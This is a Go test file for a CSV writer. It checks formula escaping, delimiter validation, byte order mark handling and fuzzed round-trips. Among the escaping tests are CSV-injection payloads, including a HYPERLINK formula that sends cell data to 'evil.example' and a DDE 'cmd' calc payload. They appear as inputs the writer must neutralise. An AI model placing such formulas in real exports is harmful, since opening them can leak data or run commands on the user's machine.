package csvbody

import (
	"encoding/csv"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

// writtenAs is like written for another format.
func writtenAs(t *testing.T, f Format, rows ...[]string) string {
	t.Helper()
	var out strings.Builder
	var w rowWriter
	w.init(&out, f)
	for _, row := range rows {
		if err := w.write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.flush(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestFormulasAreEscaped(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ cell, want string }{
		{"=1+1", "'=1+1"},
		{"=", "'="},
		{"\ufeff=1+1", "'\ufeff=1+1"},
		{`=HYPERLINK("http://evil.example?x="&A1,"a")`, `"'=HYPERLINK(""http://evil.example?x=""&A1,""a"")"`},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"+1", "'+1"},
		{"+1 555 0100", "'+1 555 0100"},
		{"-", "'-"},
		{"--1", "'--1"},
		{"-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"-A1", "'-A1"},
		{"-1-1", "'-1-1"},
		{"- 1", "'- 1"},
		{"-e5", "'-e5"},
		{"-1e", "'-1e"},
		{"-1e+", "'-1e+"},
		{"-1e5e5", "'-1e5e5"},
		{"-1e5+A1", "'-1e5+A1"},
		{"-.", "'-."},
		{"-0x1p-2", "'-0x1p-2"},
		{"-Inf", "'-Inf"},
		{"\t=1", "'\t=1"},
		{"\r=1", "\"'\r=1\""},
		{"\n=1", "\"'\n=1\""},
		{"\x00=1", "'\x00=1"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠x", "'＠x"},

		{"", `""`},
		{"-1", "-1"},
		{"-1.5", "-1.5"},
		{"-.5", "-.5"},
		{"-5.", "-5."},
		{"-1,234.50", `"-1,234.50"`},
		{"-1.234,50", `"-1.234,50"`},
		{"-1e-9", "-1e-9"},
		{"-1E+10", "-1E+10"},
		{"1+1", "1+1"},
		{"a=1", "a=1"},
		{" =1", `" =1"`},
		{"'=1", "'=1"},
		{"！", "！"}, // shares its first byte with the full-width forms
		{"\xef", "\xef"},
	} {
		if got := writtenAs(t, Format{EscapeFormulas: true}, []string{tt.cell}); got != tt.want+"\n" {
			t.Errorf("%q is written as %q, want %q", tt.cell, got, tt.want)
		}
	}
}

func TestDelimiters(t *testing.T) {
	t.Parallel()
	row := []string{"a,b", "c;d", "e\tf", "g→h", "i", `j"k`, "\x86\x92", ";"}
	for _, tt := range []struct {
		delimiter rune
		want      string
	}{
		{0, `"a,b",c;d,e` + "\t" + `f,g→h,i,"j""k",` + "\x86\x92,;\n"},
		{';', `a,b;"c;d";e` + "\t" + `f;g→h;i;"j""k";` + "\x86\x92;\";\"\n"},
		{'\t', "a,b\tc;d\t\"e\tf\"\tg→h\ti\t\"j\"\"k\"\t\x86\x92\t;\n"},
		{'→', "a,b→c;d→e\tf→\"g→h\"→i→\"j\"\"k\"→\x86\x92→;\n"},
	} {
		if got := writtenAs(t, Format{Delimiter: tt.delimiter}, row); got != tt.want {
			t.Errorf("delimiter %q: %q, want %q", tt.delimiter, got, tt.want)
		}
	}
}

func TestDelimitersAreChecked(t *testing.T) {
	t.Parallel()
	for _, delimiter := range []rune{0, ',', ';', '\t', '|', ' ', ':', '→', '\x1f'} {
		if reason := CheckDelimiter(delimiter); reason != "" {
			t.Errorf("%q %s", delimiter, reason)
		}
	}
	for _, delimiter := range []rune{'"', '\r', '\n', '#', '\ufeff', utf8.RuneError, 0xd800, -1, utf8.MaxRune + 1} {
		if CheckDelimiter(delimiter) == "" {
			t.Errorf("%q is valid", delimiter)
		}
	}
}

func TestTheByteOrderMarkIsWrittenOnce(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		rows [][]string
		want string
	}{
		{[][]string{{"ID"}, {"1"}}, "\ufeffID\n1\n"},
		{[][]string{{"\ufeffID", "\ufeffName"}, {"\ufeff1"}}, "\ufeffID,\ufeffName\n\ufeff1\n"},
		{[][]string{{"a,b"}}, "\ufeff\"a,b\"\n"},
		{[][]string{{"#"}}, "\ufeff\"#\"\n"},
		{[][]string{{"\ufeff"}}, "\ufeff\"\"\n"},
		{[][]string{{"\ufeff=1"}}, "\ufeff'=1\n"},
		{[][]string{{}, {"a"}}, "\ufeff\na\n"},
	} {
		if got := writtenAs(t, Format{BOM: true, EscapeFormulas: true}, tt.rows...); got != tt.want {
			t.Errorf("%q is written as %q, want %q", tt.rows, got, tt.want)
		}
	}
}

// formulas matches the cells that are escaped, and numbers those of them that are not.
var (
	formulas = regexp.MustCompile("^[-=+@\t\r\n\\x00＝＋－＠]")
	numbers  = regexp.MustCompile(`^-[0-9.,]*[0-9][0-9.,]*([eE][-+]?[0-9]+)?$`)
)

// FuzzFormats reads the output with encoding/csv. It compares rows that need no special
// treatment with those that encoding/csv writes.
func FuzzFormats(f *testing.F) {
	f.Add("", "=1", "-1", ';', true, true)
	f.Add("#", "-1.5e3", "a;b", '→', true, false)
	f.Add("\ufeffx", "a\tb", "\tb", '\t', false, true)
	f.Add("＝1", "\x86", "－", ',', true, true)
	f.Add("\ufeff+", "\ufeff-1", "\ufeff\ufeff=", '!', false, true)
	f.Fuzz(func(t *testing.T, a, b, c string, delimiter rune, bom, escape bool) {
		if delimiter == 0 || CheckDelimiter(delimiter) != "" {
			return
		}
		format := Format{Delimiter: delimiter, BOM: bom, EscapeFormulas: escape}
		rows := [][]string{{a, b}, {c}, {b, c, ""}, {"", a}}
		text := writtenAs(t, format, rows...)
		if bom {
			var ok bool
			if text, ok = strings.CutPrefix(text, byteOrderMark); !ok {
				t.Fatalf("%q has no byte order mark", text)
			}
		}
		want := expected(rows, format)
		r := csv.NewReader(strings.NewReader(text))
		r.FieldsPerRecord, r.Comma = -1, delimiter
		read, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		var out strings.Builder
		w := csv.NewWriter(&out)
		w.Comma = delimiter
		special := false
		for _, row := range want {
			special = special || len(row) == 1 && row[0] == "" || strings.HasPrefix(row[0], "#")
			_ = w.Write(row) // a strings.Builder returns no error
		}
		if w.Flush(); !special && text != out.String() {
			t.Errorf("%q is written as %q, by encoding/csv as %q", rows, text, out.String())
		}
		for _, row := range want {
			for i := range row {
				row[i] = strings.ReplaceAll(row[i], "\r\n", "\n") // as the reader does
			}
		}
		if !reflect.DeepEqual(read, want) {
			t.Errorf("%q reads as %q, want %q", text, read, want)
		}
	})
}

// expected returns rows as a reader without knowledge of the format must see them.
func expected(rows [][]string, f Format) (want [][]string) {
	for i, row := range rows {
		var cells []string
		for j, cell := range row {
			if i+j == 0 && f.BOM {
				cell = strings.TrimPrefix(cell, byteOrderMark)
			}
			bare := strings.TrimPrefix(cell, byteOrderMark)
			if f.EscapeFormulas && formulas.MatchString(bare) && !numbers.MatchString(bare) {
				cell = "'" + cell
			}
			cells = append(cells, cell)
		}
		want = append(want, cells)
	}
	return want
}
